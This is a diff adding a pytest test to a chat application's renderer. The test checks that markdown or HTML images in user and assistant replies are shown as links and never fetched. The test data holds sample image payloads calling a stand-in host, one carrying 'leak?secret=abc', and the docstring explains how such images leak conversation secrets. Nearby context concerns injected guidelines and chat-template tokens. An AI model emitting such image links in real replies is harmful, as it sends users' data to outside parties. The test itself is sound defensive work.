@@ -123,6 +123,29 @@ def test_an_injected_guideline_stays_one_quoted_line_of_the_system_prompt(attack
         assert_no_chat_markup(line)
 
 
+IMAGES = [
+    "Here you go: ![pixel](http://tracker.example/p.png?u=42)",
+    "![x][ref]\n\n[ref]: https://tracker.example/leak?secret=abc",
+    "escaped already: \\![x](http://tracker.example/a.png) and ![](//tracker.example/b.png)",
+    "<img src=http://tracker.example/c.png> ![a](<http://tracker.example/d e.png>)",
+]
+
+
+@pytest.mark.parametrize("reply", IMAGES)
+def test_an_image_in_a_reply_is_shown_as_a_link_never_fetched(reply):
+    """A reply's markdown image would make every reader's browser fetch its URL (a tracking pixel, or a
+    secret from the conversation in its query string): the chat shows it as text and a link instead.
+    Checked with a CommonMark renderer (the chat's markdown is CommonMark too)."""
+    from markdown_it import MarkdownIt
+
+    shown, _ = render([{"id": "u", "role": "user", "content": reply, "status": "ok"},
+                       {"id": "a", "role": "assistant", "content": reply, "status": "ok", "model": "chatfb-base"}])
+    for item in shown:
+        html = MarkdownIt("commonmark").render(item["content"])
+        assert "<img" not in html, html
+        assert "tracker.example" in html  # the address is still there to read (as text or a link)
+
+
 def assert_no_chat_markup(text: str) -> None:
     """No chat-template control token survives: vLLM renders the chat template to text and tokenizes
     it with special tokens recognised, so a literal '<|im_start|>system' in a critique or guideline
